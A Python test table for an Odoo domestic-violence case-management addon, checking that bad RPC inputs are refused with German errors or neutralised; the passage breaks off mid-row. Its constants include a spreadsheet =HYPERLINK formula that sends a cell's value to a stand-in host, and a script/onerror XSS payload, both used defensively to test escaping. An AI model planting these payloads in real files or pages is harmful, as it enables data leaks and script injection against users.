"""Bad inputs through the real RPC interface, one row each.

A row is either refused (an error of the application with a clear message,
German for the German users; for errors of Odoo's ORM or PostgreSQL the
class and the message named here) and leaves nothing behind: no table gains
a row and the records it aimed at are unchanged; or accepted but
neutralised (a formula stays text in the workbook, a script is sanitised or
escaped, a broken e-mail is kept for completion or bounced), which its
check proves.

The table is plain data with small functions; tools/test_load_suite.py
checks its shape without Odoo.
"""

import io
import json
import re
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from zoneinfo import ZoneInfo

import plan
from rpc import Client, RpcError

# The guard's German messages (dv.guard.mixin): a state or status written
# directly, and a field the application sets or fixes at creation.
STATE_BY_BUTTONS = "Der Status ändert sich nur über die Schaltflächen des Formulars"
SET_BY_APPLICATION = "kann hier nicht geändert werden: die Anwendung setzt es"
FORMULA = '=HYPERLINK("http://example.invalid/?d="&A1,"Details")'
SCRIPT = '<script>alert("dv")</script><img src="x" onerror="alert(1)">'


@dataclass(frozen=True)
class Row:
    key: str
    what: str
    user: str
    action: object  # action(users, fixtures) -> result
    expect: str = "refused"  # or "neutralised"
    error: str = ""  # refused: the exception's class name ends with this
    german: str = ""  # refused: part of the message the user reads
    check: object = None  # neutralised: check(fixtures, result, sql) -> problem or None
    grows: tuple = ()  # neutralised: tables that may gain rows
    watch: object = None  # watch(fixtures) -> (table, ids) that must stay unchanged
    tags: tuple = field(default_factory=tuple)


class Fixtures:
    """Ids from the setup and the dates of the moment (Berlin, as the users)."""

    def __init__(self, setup):
        self.setup = setup
        self.f = setup["fixtures"]
        self.office = setup["agencies"]["office"]
        self.police = setup["agencies"]["police"]
        self.counselling = setup["agencies"]["counselling"]
        self.neighbour = setup["agencies"]["neighbour"]
        self.police_b = setup["agencies"]["police_b"]
        self.company = setup["companies"]["a"]
        self.minimum = setup["suppression_minimum"]
        now = datetime.now(UTC).replace(tzinfo=None, microsecond=0)
        self.now = now
        self.today = datetime.now(ZoneInfo("Europe/Berlin")).date()
        self.future = self.today + timedelta(days=3)
        self.worker = setup["helpers"]["helper_caseworker"]["uid"]
        self.coordinator = setup["helpers"]["helper_coordinator"]["uid"]
        self.outsider = next(
            (
                u["uid"]
                for u in setup["users"].values()
                if u["role"].startswith("attacker")
            ),
            setup["helpers"]["helper_manager"]["uid"],
        )
        self.serial = 0

    def next(self):
        self.serial += 1
        return f"BAD-{self.now:%H%M%S}-{self.serial:03d}"

    def dt(self, moment):
        return moment.strftime("%Y-%m-%d %H:%M:%S")

    def inbound(self, **values):
        vals = {
            "source_type": "police",
            "from_agency_id": self.police,
            "to_agency_id": self.office,
            "company_id": self.company,
            "received_at": self.dt(self.now - timedelta(hours=1)),
            "police_reference": self.next(),
            "legal_basis": "consent",
            "consent_date": str(self.today),
            "victim_name": f"Testperson {self.next()}",
        }
        vals.update(values)
        return vals

    def share(self, **values):
        """A share of the case in progress with the counselling centre, as
        its lead agency's case worker sends it (the addon sets the sender,
        company and state)."""
        vals = {
            "kind": "share",
            "case_id": self.f["case_progress"],
            "to_agency_id": self.counselling,
            "legal_basis": "statute",
            "legal_norm": "§ 8a SGB VIII",
            "reason": "Beratung",
        }
        vals.update(values)
        return vals

    def mail(self, marker, body=None, sender=None, to=None, victim=None):
        text = plan.mail(
            sender or self.setup["police_email"],
            to or self.setup["alias_email"],
            marker,
            self.now.strftime("%a, %d %b %Y %H:%M:%S +0000"),
            (self.now - timedelta(hours=5)).strftime("%d.%m.%Y %H:%M"),
            victim=victim,
        )
        if body is not None:
            head, _sep, _old = text.partition("\n\n")
            text = f"{head}\n\n{body}\n"
        return text


# Helpers for the actions


def create(model, values):
    return lambda u, f: u["caseworker"].call(model, "create", values(f))


def write(model, fixture, values, user="caseworker"):
    return lambda u, f: u[user].call(model, "write", [f.f[fixture]], values(f))


def method(model, fixture, name, user="caseworker"):
    return lambda u, f: u[user].call(model, name, [f.f[fixture]])


def deliver(message):
    return lambda u, f: u["mailgate"].execute_kw(
        "mail.thread", "message_process", [False, message(f)]
    )


def watch(table, fixture):
    return lambda f: (table, [f.f[fixture]])


def _referral_by_marker(sql, marker):
    return sql(
        "SELECT id, needs_completion, case_id, police_reference, incident_date "
        "FROM dv_referral WHERE name IS NOT NULL AND id IN (SELECT res_id FROM "
        "mail_message WHERE model = 'dv.referral' AND message_id = %s)",
        [f"<{marker}@polizei-lastdorf.example>"],
    )


# Actions and checks of the neutralised rows


def formula_in_statistics(u, f):
    """An agency named like a formula, chosen as the workbook's filter: the
    overview sheet names it."""
    agency = u["manager"].call(
        "dv.agency",
        "create",
        {
            "name": FORMULA,
            "agency_type_id": f.setup["agency_type_counselling"],
            "company_id": f.company,
        },
    )
    wizard = u["caseworker"].call(
        "dv.statistics.wizard",
        "create",
        {
            "date_from": f"{f.today.year}-01-01",
            "date_to": f"{f.today.year}-12-31",
            "company_ids": [(6, 0, [f.company])],
            "agency_ids": [(6, 0, [agency])],
        },
    )
    status, _ctype, body = u["caseworker"].download(
        f"/report/xlsx/dv_case_management.statistics_xlsx/{wizard}"
    )
    return {"status": status, "cells": _cells(body)}


def formula_in_list_export(u, f):
    """A police reference like a formula in the referral list, exported to
    Excel with Odoo's list export."""
    reference = '=HYPERLINK("http://example.invalid","Akte")'
    referral = u["caseworker"].call(
        "dv.referral", "create", f.inbound(police_reference=reference)
    )
    client = u["caseworker"]
    _status, _ctype, page = client.download("/odoo")
    token = re.search(rb"csrf_token\W+([0-9a-f]+o[0-9]+)", page)
    params = {
        "model": "dv.referral",
        "fields": [
            {"name": "name", "label": "Name"},
            {"name": "police_reference", "label": "AZ"},
        ],
        "ids": [referral],
        "domain": [],
        "groupby": [],
        "import_compat": False,
    }
    response = client.http.post(
        client.base_url + "/web/export/xlsx",
        data={
            "data": json.dumps(params),
            "csrf_token": token.group(1).decode() if token else "",
        },
        timeout=client.timeout,
    )
    return {
        "status": response.status_code,
        "cells": _cells(response.content),
        "referral": referral,
        "uid": client.uid,
    }


def _cells(body):
    import openpyxl  # noqa: PLC0415 - only the formula rows read workbooks

    try:
        book = openpyxl.load_workbook(io.BytesIO(body))
    except Exception:
        return None
    return [
        (cell.value, cell.data_type)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


def check_formula(_f, result, _sql):
    if result["status"] != 200 or result["cells"] is None:
        return f"no workbook (HTTP {result['status']})"
    formulas = [value for value, kind in result["cells"] if kind == "f"]
    if formulas:
        return f"{len(formulas)} formula cell(s) in the workbook"
    if not any(
        isinstance(v, str) and v.startswith("=HYPERLINK") for v, _k in result["cells"]
    ):
        return "the text is missing from the workbook"
    return None


def check_exported(f, result, sql):
    """The list export is neutralised, and it is in the access log: one entry
    for the exported referral, by the user who exported it."""
    problem = check_formula(f, result, sql)
    if problem:
        return problem
    [(entries,)] = sql(
        "SELECT count(*) FROM dv_access_log WHERE res_model = 'dv.referral' "
        "AND res_id = %s AND user_id = %s",
        [result["referral"], result["uid"]],
    )
    return None if entries == 1 else f"{entries} access log entries for the export"


def check_safety_plan(f, _result, sql):
    [(plan,)] = sql(
        "SELECT safety_plan FROM dv_case WHERE id = %s", [f.f["case_progress"]]
    )
    if "<script" in plan or "onerror" in plan:
        return "script kept in the safety plan"
    return None if "Plan" in plan else "the text itself is gone"


def check_note(_f, result, sql):
    [(body,)] = sql("SELECT body FROM mail_message WHERE id = %s", [result])
    if "<script" in body or "<img" in body:
        return "script kept in the note"
    return None if "&lt;script&gt;" in body else "note not stored escaped"


def check_conference_note(f, _result, sql):
    [(note,)] = sql("SELECT note FROM dv_conference WHERE id = %s", [f.f["conference"]])
    return "script kept in the note" if "<script" in note or "onerror" in note else None


def minutes_with_script(u, f):
    line = u["manager"].call(
        "dv.conference.case",
        "create",
        {
            "conference_id": f.f["conference"],
            "case_id": f.f["case_new"],
            "decisions": SCRIPT,
        },
    )
    status, _ctype, body = u["manager"].download(
        f"/report/html/dv_case_management.report_conference_minutes/{f.f['conference']}"
    )
    return {"line": line, "status": status, "html": body.decode("utf-8", "replace")}


def check_minutes(_f, result, _sql):
    if result["status"] != 200:
        return f"minutes not printed (HTTP {result['status']})"
    if '<script>alert("dv")' in result["html"] or 'onerror="alert' in result["html"]:
        return "script reaches the minutes unescaped"
    return (
        None
        if "&lt;script&gt;" in result["html"]
        else "decisions missing from the minutes"
    )


# Where anything of an e-mail the alias did not take would show.
MAIL_TRACES = """
    SELECT (SELECT count(*) FROM dv_referral WHERE police_reference = %(marker)s)
         + (SELECT count(*) FROM dv_referral_original
              WHERE body LIKE %(pattern)s OR message_id LIKE %(pattern)s)
         + (SELECT count(*) FROM mail_message
              WHERE body LIKE %(pattern)s OR subject LIKE %(pattern)s)
         + (SELECT count(*) FROM mail_mail WHERE body_html LIKE %(pattern)s)
         + (SELECT count(*) FROM ir_attachment WHERE name LIKE %(pattern)s)
         + (SELECT count(*) FROM dv_person WHERE name LIKE %(pattern)s)
"""
BOUNCE = """
    SELECT m.subject, mm.body_html FROM mail_mail mm
    JOIN mail_message m ON m.id = mm.mail_message_id
    WHERE mm.email_to LIKE %(to)s AND mm.body_html LIKE %(alias)s
    ORDER BY mm.id DESC LIMIT 1
"""


def check_not_taken(marker, bounce_to=None):
    """An e-mail the intake alias does not accept creates nothing: no
    referral, case, person or original message, and no text of it is kept
    anywhere. Its sender (``bounce_to``) gets a short notice in German that
    quotes nothing of it."""

    def check(f, result, sql):
        if result:
            return f"the message became record {result}"
        [(traces,)] = sql(MAIL_TRACES, {"marker": marker, "pattern": f"%{marker}%"})
        if traces:
            return f"{traces} trace(s) of the message kept"
        if not bounce_to:
            return None
        rows = sql(
            BOUNCE, {"to": f"%{bounce_to}%", "alias": f"%{f.setup['alias_email']}%"}
        )
        if not rows:
            return "no notice to the sender"
        subject, body = rows[0]
        if "nicht angenommen" not in (subject or "") or "nicht eingetragen" not in (
            body or ""
        ):
            return "the notice is not the German one"
        return None

    return check


def check_source(marker):
    """An e-mail from a registered sender whose text names another police
    unit: the source is the sender's unit, not the one the text names."""

    def check(f, result, sql):
        rows = sql(
            "SELECT from_agency_id, received_by_email FROM dv_referral "
            "WHERE police_reference = %s",
            [marker],
        )
        if not result or len(rows) != 1:
            return f"{len(rows)} referral(s) for the message"
        source, by_email = rows[0]
        if source != f.police:
            return f"source {source} instead of the registered sender's unit"
        return None if by_email else "not marked as received by e-mail"

    return check


def check_proposed(marker):
    """A repeat by e-mail: the case of the victim is proposed, the referral
    has no case, and nothing of it went into the proposed case yet."""

    def check(f, result, sql):
        case = f.f["case_mailed"]
        rows = sql(
            "SELECT proposed_case_id, case_id, from_agency_id FROM dv_referral "
            "WHERE police_reference = %s",
            [marker],
        )
        if not result or len(rows) != 1:
            return f"{len(rows)} referral(s) for the message"
        if rows[0] != (case, None, f.police):
            return f"proposed, case, source: {rows[0]}"
        [(written,)] = sql(
            "SELECT (SELECT count(*) FROM dv_police_measure "
            "WHERE case_id = %(case)s AND police_reference = %(marker)s) "
            "+ (SELECT count(*) FROM dv_incident "
            "WHERE case_id = %(case)s AND police_reference = %(marker)s) "
            "+ (SELECT count(*) FROM dv_person WHERE case_id = %(case)s) - %(people)s",
            {"case": case, "marker": marker, "people": f.f["case_mailed_people"]},
        )
        return f"{written} record(s) in the proposed case" if written else None

    return check


def check_threshold(f, result, sql):
    """A workbook's threshold left empty is the company's minimum."""
    [(threshold,)] = sql(
        "SELECT threshold FROM dv_statistics_wizard WHERE id = %s", [result]
    )
    return None if threshold >= f.minimum else f"threshold {threshold}"


def deliver_twice(marker):
    def action(u, f):
        first = deliver(lambda f: f.mail(marker))(u, f)
        second = deliver(lambda f: f.mail(marker))(u, f)
        return {"first": first, "second": second}

    return action


def check_once(marker):
    def check(_f, result, sql):
        rows = sql(
            "SELECT count(*) FROM dv_referral WHERE police_reference = %s", [marker]
        )
        if not result["first"] or result["second"]:
            return f"delivered {result}"
        return None if rows[0][0] == 1 else f"{rows[0][0]} referrals"

    return check


def check_for_completion(marker, has_case=None):
    def check(f, result, sql):
        rows = _referral_by_marker(sql, marker)
        if not result or len(rows) != 1:
            return f"{len(rows)} referral(s) for the message"
        _id, needs_completion, case_id, reference, incident = rows[0]
        if not needs_completion:
            return "not marked for completion"
        if has_case is not None and bool(case_id) != has_case:
            return "case opened" if case_id else "no case"
        if reference and len(reference) > 64:
            return "over-long reference kept"
        if incident and incident > f.today:
            return "incident date in the future kept"
        return None

    return check


MAIL_GROWS = (
    "dv_referral",
    "dv_referral_original",
    "dv_case",
    "dv_person",
    "dv_police_measure",
    "dv_incident",
    "mail_message",
    "ir_attachment",
    "mail_activity",
    "dv_person_protected",
)

ROWS = (
    # Dates in the future or out of order
    Row(
        "case_opened_in_future",
        "case opened on a future date",
        "caseworker",
        create(
            "dv.case",
            lambda f: {
                "lead_agency_id": f.office,
                "user_id": f.worker,
                "opened_on": str(f.future),
            },
        ),
        error="ValidationError",
        german="in der Zukunft eröffnet",
    ),
    Row(
        "birth_date_in_future",
        "victim born in the future",
        "caseworker",
        create(
            "dv.person",
            lambda f: {
                "case_id": f.f["case_new"],
                "name": "Testperson Zukunft",
                "birth_date": str(f.future),
            },
        ),
        error="ValidationError",
        german="Geburtsdatum kann nicht in der Zukunft",
    ),
    Row(
        "age_estimate_150",
        "estimated age 150",
        "caseworker",
        create(
            "dv.person",
            lambda f: {
                "case_id": f.f["case_new"],
                "name": "Testperson Alt",
                "age_estimate": 150,
            },
        ),
        error="ValidationError",
        german="zwischen 0 und 120",
    ),
    Row(
        "incident_in_future",
        "incident dated next week",
        "caseworker",
        create(
            "dv.incident",
            lambda f: {
                "case_id": f.f["case_progress"],
                "date": f.dt(f.now + timedelta(days=7)),
            },
        ),
        error="ValidationError",
        german="Vorfall kann nicht in der Zukunft",
    ),
    Row(
        "referral_from_future",
        "referral received tomorrow",
        "caseworker",
        create(
            "dv.referral",
            lambda f: f.inbound(received_at=f.dt(f.now + timedelta(days=1))),
        ),
        error="ValidationError",
        german="nicht in der Zukunft eingehen",
    ),
    Row(
        "consent_in_future",
        "consent dated in the future",
        "caseworker",
        create("dv.referral", lambda f: f.inbound(consent_date=str(f.future))),
        error="ValidationError",
        german="Einwilligung kann nicht in der Zukunft",
    ),
    Row(
        "attempt_in_future",
        "contact attempt tomorrow",
        "caseworker",
        create(
            "dv.contact.attempt",
            lambda f: {
                "referral_id": f.f["referral_open"],
                "channel_id": f.setup["channel_phone"],
                "outcome": "no_answer",
                "attempted_at": f.dt(f.now + timedelta(days=1)),
            },
        ),
        error="ValidationError",
        german="Kontaktversuch kann nicht in der Zukunft",
    ),
    Row(
        "attempt_before_arrival",
        "contact attempt before the referral arrived",
        "caseworker",
        create(
            "dv.contact.attempt",
            lambda f: {
                "referral_id": f.f["referral_open"],
                "channel_id": f.setup["channel_phone"],
                "outcome": "no_answer",
                "attempted_at": f.dt(f.now - timedelta(days=2)),
            },
        ),
        error="ValidationError",
        german="nicht vor dem Eingang der Meldung",
    ),
    Row(
        "measure_ends_before_start",
        "police measure ending before it starts",
        "caseworker",
        create(
            "dv.police.measure",
            lambda f: {
                "case_id": f.f["case_progress"],
                "measure_type": "eviction",
                "date_start": str(f.today),
                "date_end": str(f.today - timedelta(days=2)),
            },
        ),
        error="ValidationError",
        german="nicht vor ihrem Beginn enden",
    ),
    Row(
        "application_before_act",
        "protection order applied for before the act",
        "caseworker",
        create(
            "dv.protection.order",
            lambda f: {
                "case_id": f.f["case_progress"],
                "act_date": str(f.today - timedelta(days=5)),
                "application_date": str(f.today - timedelta(days=9)),
            },
        ),
        error="ValidationError",
        german="nicht vor der Tat",
    ),
    Row(
        "consent_ends_before_given",
        "consent valid until before it was given",
        "caseworker",
        create(
            "dv.consent",
            lambda f: {
                "person_id": f.f["victim"],
                "agency_ids": [(6, 0, [f.counselling])],
                "given_on": str(f.today - timedelta(days=3)),
                "valid_until": str(f.today - timedelta(days=10)),
            },
        ),
        error="ValidationError",
        german="enden, bevor sie erteilt",
    ),
    Row(
        "statistics_period_reversed",
        "statistics from December to January",
        "caseworker",
        create(
            "dv.statistics.wizard",
            lambda f: {
                "date_from": f"{f.today.year}-12-31",
                "date_to": f"{f.today.year}-01-01",
                "company_ids": [(6, 0, [f.company])],
            },
        ),
        error="ValidationError",
        german="Zeitraum kann nicht enden",
    ),
    # The suppression threshold of the statistics: never below the minimum
    # a manager set for the company.
    Row(
        "statistics_threshold_zero",
        "suppression threshold 0",
        "caseworker",
        create(
            "dv.statistics.wizard",
            lambda f: {"threshold": 0, "company_ids": [(6, 0, [f.company])]},
        ),
        error="ValidationError",
        german=f"kann nicht unter {plan.SUPPRESSION_MINIMUM} liegen",
    ),
    Row(
        "statistics_threshold_below_minimum",
        "suppression threshold one below the company's minimum",
        "caseworker",
        create(
            "dv.statistics.wizard",
            lambda f: {
                "threshold": f.minimum - 1,
                "company_ids": [(6, 0, [f.company])],
            },
        ),
        error="ValidationError",
        german=f"kann nicht unter {plan.SUPPRESSION_MINIMUM} liegen",
    ),
    Row(
        "statistics_threshold_default",
        "a workbook without a threshold gets the company's minimum",
        "caseworker",
        create(
            "dv.statistics.wizard",
            lambda f: {"company_ids": [(6, 0, [f.company])]},
        ),
        expect="neutralised",
        check=check_threshold,
        grows=("dv_statistics_wizard", "dv_statistics_wizard_res_company_rel"),
    ),
    Row(
        "statistics_minimum_by_caseworker",
        "a case worker lowering the company's minimum threshold",
        "caseworker",
        create(
            "dv.statistics.settings",
            lambda f: {"company_id": f.company, "suppression_minimum": 1},
        ),
        error="AccessError",
        german="(dv.statistics.settings) zu erstellen",
    ),
    Row(
        "statistics_minimum_zero",
        "a minimum threshold of 0",
        "manager",
        lambda u, f: u["manager"].call(
            "dv.statistics.settings",
            "create",
            {"company_id": f.company, "suppression_minimum": 0},
        ),
        error="ValidationError",
        german="mindestens 1",
    ),
    Row(
        "assessment_in_future",
        "risk assessment dated in the future",
        "caseworker",
        create(
            "dv.risk.assessment",
            lambda f: {
                "case_id": f.f["case_progress"],
                "instrument_id": f.setup["instrument"],
                "date": str(f.future),
            },
        ),
        error="ValidationError",
        german="Einschätzung kann nicht in der Zukunft",
    ),
    Row(
        "confidentiality_signed_in_future",
        "confidentiality statement signed next week",
        "manager",
        lambda u, f: u["manager"].call(
            "dv.conference.participant",
            "create",
            {
                "conference_id": f.f["conference"],
                "user_id": f.setup["helpers"]["helper_manager"]["uid"],
                "confidentiality_signed_on": str(f.future),
            },
        ),
        error="ValidationError",
        german="nicht in der Zukunft unterschrieben",
    ),
    # Risk
    Row(
        "override_lowers_level",
        "professional judgement lowering a red flag to standard",
        "caseworker",
        write(
            "dv.risk.assessment",
            "assessment_red_flag",
            lambda f: {"override_level": "standard", "override_reason": "Begründung"},
        ),
        error="ValidationError",
        german="niemals senken",
        watch=watch("dv_risk_assessment", "assessment_red_flag"),
    ),
    Row(
        "override_without_reasons",
        "professional judgement without reasons",
        "caseworker",
        write(
            "dv.risk.assessment",
            "assessment_red_flag",
            lambda f: {"override_level": "high", "override_reason": "  "},
        ),
        error="ValidationError",
        german="schriftlich",
        watch=watch("dv_risk_assessment", "assessment_red_flag"),
    ),
    Row(
        "complete_unanswered",
        "completing an assessment with every answer unknown",
        "caseworker",
        method("dv.risk.assessment", "assessment_blank", "action_done"),
        error="UserError",
        german="Beantworten Sie die Fragen",
        watch=watch("dv_risk_assessment", "assessment_blank"),
    ),
    # Legal basis
    Row(
        "referral_without_legal_basis",
        "police referral without a legal basis",
        "caseworker",
        create(
            "dv.referral", lambda f: f.inbound(legal_basis=False, consent_date=False)
        ),
        error="ValidationError",
        german="Rechtsgrundlage der Meldung",
    ),
    Row(
        "statute_without_norm",
        "legal basis statute without its norm",
        "caseworker",
        create(
            "dv.referral",
            lambda f: f.inbound(legal_basis="statute", consent_date=False),
        ),
        error="ValidationError",
        german="Rechtsnorm",
    ),
    Row(
        "acute_danger_without_reasons",
        "acute danger without written justification",
        "caseworker",
        create(
            "dv.referral",
            lambda f: f.inbound(
                legal_basis="acute_danger", consent_date=False, justification=" "
            ),
        ),
        error="ValidationError",
        german="schriftliche Begründung",
    ),
    Row(
        "consent_without_date",
        "consent without its date",
        "caseworker",
        create("dv.referral", lambda f: f.inbound(consent_date=False)),
        error="ValidationError",
        german="Datum, an dem die Einwilligung",
    ),
    Row(
        "share_without_legal_basis",
        "sharing a case without a legal basis",
        "caseworker",
        create("dv.share", lambda f: f.share(legal_basis=False, legal_norm=False)),
        error="ValidationError",
        german="braucht eine Rechtsgrundlage",
    ),
    Row(
        "share_to_own_lead",
        "sharing a case with its own lead agency",
        "caseworker",
        create("dv.share", lambda f: f.share(to_agency_id=f.office)),
        error="ValidationError",
        german="eigene federführende Einrichtung",
    ),
    Row(
        "share_consent_of_other_agency",
        "a share on consent to another agency than the one consented to",
        "caseworker",
        create(
            "dv.share",
            lambda f: f.share(
                to_agency_id=f.neighbour,
                legal_basis="consent",
                legal_norm=False,
                consent_id=f.f["consent"],
            ),
        ),
        error="ValidationError",
        german="Einwilligung deckt",
    ),
    # State transitions out of order
    Row(
        "start_started_case",
        "starting a case twice",
        "caseworker",
        method("dv.case", "case_progress", "action_start"),
        error="UserError",
        german="Das Beginnen der Bearbeitung ist nicht möglich",
        watch=watch("dv_case", "case_progress"),
    ),
    Row(
        "reopen_open_case",
        "reopening a case that is not closed",
        "caseworker",
        method("dv.case", "case_new", "action_reopen"),
        error="UserError",
        german="Das Wiedereröffnen ist nicht möglich",
        watch=watch("dv_case", "case_new"),
    ),
    Row(
        "close_by_writing_state",
        "closing a case by writing its state (no reason)",
        "caseworker",
        write("dv.case", "case_new", lambda f: {"state": "closed"}),
        error="ValidationError",
        german=STATE_BY_BUTTONS,
        watch=watch("dv_case", "case_new"),
    ),
    Row(
        "case_back_to_new",
        "putting a case in progress back to new",
        "caseworker",
        write("dv.case", "case_progress", lambda f: {"state": "new"}),
        error="ValidationError",
        german=STATE_BY_BUTTONS,
        watch=watch("dv_case", "case_progress"),
    ),
    Row(
        "declined_back_to_received",
        "reopening a declined referral by writing its state",
        "caseworker",
        write("dv.referral", "referral_declined", lambda f: {"state": "received"}),
        error="ValidationError",
        german=STATE_BY_BUTTONS,
        watch=watch("dv_referral", "referral_declined"),
    ),
    Row(
        "referral_state_written",
        "marking a police referral contacted by writing its state",
        "caseworker",
        write("dv.referral", "referral_open", lambda f: {"state": "contacted"}),
        error="ValidationError",
        german=STATE_BY_BUTTONS,
        watch=watch("dv_referral", "referral_open"),
    ),
    Row(
        "share_state_written",
        "the sender accepting its own share by writing its state",
        "caseworker",
        write("dv.share", "share", lambda f: {"state": "accepted"}),
        error="ValidationError",
        german=STATE_BY_BUTTONS,
        watch=watch("dv_share", "share"),
    ),
    Row(
        "share_created_accepted",
        "a share created as already accepted",
        "caseworker",
        create("dv.share", lambda f: f.share(state="accepted")),
        error="ValidationError",
        german=STATE_BY_BUTTONS,
    ),
    Row(
        "share_accepted_by_sender",
        "the sender accepting its own share with the receiver's button",
        "caseworker",
        method("dv.share", "share", "action_accept"),
        error="AccessError",
        german="beantworten",
        watch=watch("dv_share", "share"),
    ),
    Row(
        "action_status_written",
        "a conference action marked done by writing its status",
        "manager",
        write(
            "dv.conference.action",
            "action",
            lambda f: {"status": "done"},
            user="manager",
        ),
        error="ValidationError",
        german=STATE_BY_BUTTONS,
        watch=watch("dv_conference_action", "action"),
    ),
    Row(
        "action_status_by_owner",
        "the owner agency writing its action's status and due date",
        "caseworker",
        write(
            "dv.conference.action",
            "action",
            lambda f: {"status": "done", "due_date": str(f.future)},
        ),
        error="AccessError",
        german="meldet ihren Stand",
        watch=watch("dv_conference_action", "action"),
    ),
    Row(
        "contact_declined_referral",
        "contacting a declined referral again",
        "caseworker",
        method("dv.referral", "referral_declined", "action_start_contacting"),
        error="UserError",
        german="Das Beginnen der Kontaktaufnahme ist nicht möglich",
        watch=watch("dv_referral", "referral_declined"),
    ),
    Row(
        "attempt_on_closed_referral",
        "contact attempt on a declined referral",
        "caseworker",
        create(
            "dv.contact.attempt",
            lambda f: {
                "referral_id": f.f["referral_declined"],
                "channel_id": f.setup["channel_phone"],
                "outcome": "reached",
                "attempted_at": f.dt(f.now),
            },
        ),
        error="ValidationError",
        german="keine weiteren Kontaktversuche",
    ),
    Row(
        "unreachable_without_attempts",
        "marking unreachable before any attempt",
        "caseworker",
        method("dv.referral", "referral_open", "action_mark_unreachable"),
        error="UserError",
        german="Erfassen Sie die Kontaktversuche",
        watch=watch("dv_referral", "referral_open"),
    ),
    Row(
        "approve_minutes_before_held",
        "approving the minutes of a planned conference",
        "manager",
        method("dv.conference", "conference", "action_approve_minutes", user="manager"),
        error="UserError",
        german="Das Freigeben des Protokolls ist nicht möglich",
        watch=watch("dv_conference", "conference"),
    ),
    Row(
        "delete_case",
        "deleting a case",
        "caseworker",
        method("dv.case", "case_new", "unlink"),
        error="AccessError",
        german="zu löschen",
        watch=watch("dv_case", "case_new"),
    ),
    # Fields the application sets, and what is fixed at creation
    Row(
        "share_case_changed",
        "pointing a sent share at another case",
        "caseworker",
        write("dv.share", "share", lambda f: {"case_id": f.f["case_new"]}),
        error="ValidationError",
        german=SET_BY_APPLICATION,
        watch=watch("dv_share", "share"),
    ),
    Row(
        "share_recipient_changed",
        "redirecting a sent share to another agency",
        "caseworker",
        write("dv.share", "share", lambda f: {"to_agency_id": f.neighbour}),
        error="ValidationError",
        german=SET_BY_APPLICATION,
        watch=watch("dv_share", "share"),
    ),
    Row(
        "share_consent_changed",
        "resting a sent share on a consent afterwards",
        "caseworker",
        write(
            "dv.share",
            "share",
            lambda f: {"legal_basis": "consent", "consent_id": f.f["consent"]},
        ),
        error="ValidationError",
        german=SET_BY_APPLICATION,
        watch=watch("dv_share", "share"),
    ),
    Row(
        "share_forged_sender",
        "a share naming another agency as its sender",
        "caseworker",
        create("dv.share", lambda f: f.share(from_agency_id=f.neighbour)),
        error="ValidationError",
        german=SET_BY_APPLICATION,
    ),
    Row(
        "case_victim_changed",
        "making the perpetrator the victim of a case by its link",
        "caseworker",
        write("dv.case", "case_progress", lambda f: {"victim_id": f.f["perpetrator"]}),
        error="ValidationError",
        german=SET_BY_APPLICATION,
        watch=watch("dv_case", "case_progress"),
    ),
    Row(
        "person_protected_changed",
        "linking a victim to another person's protected details",
        "caseworker",
        write(
            "dv.person", "victim", lambda f: {"protected_id": f.f["protected_other"]}
        ),
        error="ValidationError",
        german=SET_BY_APPLICATION,
        watch=watch("dv_person", "victim"),
    ),
    Row(
        "attempt_moved",
        "moving a contact attempt to another referral",
        "caseworker",
        write(
            "dv.contact.attempt",
            "attempt",
            lambda f: {"referral_id": f.f["referral_open"]},
        ),
        error="ValidationError",
        german=SET_BY_APPLICATION,
        watch=watch("dv_contact_attempt", "attempt"),
    ),
    # Other refusals of the application
    Row(
        "responsible_outside_agency",
        "a responsible person from another agency",
        "caseworker",
        create(
            "dv.case", lambda f: {"lead_agency_id": f.office, "user_id": f.outsider}
        ),
        error="ValidationError",
        german="muss Mitglied der federführenden Einrichtung",
    ),
    Row(
        "retention_zero_days",
        "a retention period of 0 days",
        "manager",
        lambda u, f: u["manager"].call(
            "dv.retention.rule", "create", {"record_type": "closed_case", "days": 0}
        ),
        error="ValidationError",
        german="mindestens einen Tag",
    ),
    Row(
        "conference_zero_hours",
        "a conference lasting 0 hours",
        "manager",
        lambda u, f: u["manager"].call(
            "dv.conference",
            "create",
            {
                "kind": "adhoc",
                "start": f.dt(f.now + timedelta(days=3)),
                "duration": 0,
                "organizer_agency_id": f.office,
                "company_id": f.company,
            },
        ),
        error="ValidationError",
        german="zwischen wenigen Minuten und einem Tag",
    ),
    Row(
        "duplicate_police_reference",
        "the same police reference from the same police unit twice",
        "caseworker",
        lambda u, f: u["caseworker"].call(
            "dv.referral",
            "create",
            f.inbound(
                police_reference=u["caseworker"].call(
                    "dv.referral", "read", [f.f["referral_open"]], ["police_reference"]
                )[0]["police_reference"]
            ),
        ),
        error="ValidationError",
        german="gibt es bereits",
    ),
    # Over-long text
    Row(
        "overlong_police_reference",
        "a police reference of 10,000 characters",
        "caseworker",
        create(
            "dv.referral",
            lambda f: f.inbound(
                police_reference="".join(
                    chr(0x4E00 + (i * 7919) % 20000) for i in range(10000)
                )
            ),
        ),
        error="ValidationError",
        german="höchstens 64 Zeichen",
    ),
    Row(
        "overlong_name",
        "a victim's name of 100,000 characters",
        "caseworker",
        create(
            "dv.person",
            lambda f: {
                "case_id": f.f["case_new"],
                "name": "Testperson " * 9000,
                "role": "other",
            },
        ),
        error="ValidationError",
        german="höchstens 200 Zeichen",
    ),
    # Unknown keys and wrong types
    Row(
        "unknown_field",
        "an unknown field key",
        "caseworker",
        create(
            "dv.case",
            lambda f: {
                "lead_agency_id": f.office,
                "user_id": f.worker,
                "geheimfeld": 1,
            },
        ),
        error="ValueError",
        german="Invalid field 'geheimfeld'",
    ),
    Row(
        "date_as_word",
        "a date written as a word",
        "caseworker",
        create(
            "dv.case",
            lambda f: {
                "lead_agency_id": f.office,
                "user_id": f.worker,
                "opened_on": "gestern",
            },
        ),
        error="InvalidDatetimeFormat",
        german="gestern",
    ),
    Row(
        "relation_as_text",
        "a relation given as a name instead of an id",
        "caseworker",
        create(
            "dv.case",
            lambda f: {
                "lead_agency_id": "Interventionsstelle Lastdorf",
                "user_id": f.worker,
            },
        ),
        error="InvalidTextRepresentation",
        german="Interventionsstelle",
    ),
    Row(
        "unknown_selection",
        "a gender that is no option",
        "caseworker",
        create(
            "dv.person",
            lambda f: {
                "case_id": f.f["case_new"],
                "name": "Testperson Auswahl",
                "gender": "alien",
            },
        ),
        error="ValueError",
        german="Wrong value for dv.person.gender",
    ),
    Row(
        "number_as_word",
        "an age written as a word",
        "caseworker",
        create(
            "dv.person",
            lambda f: {
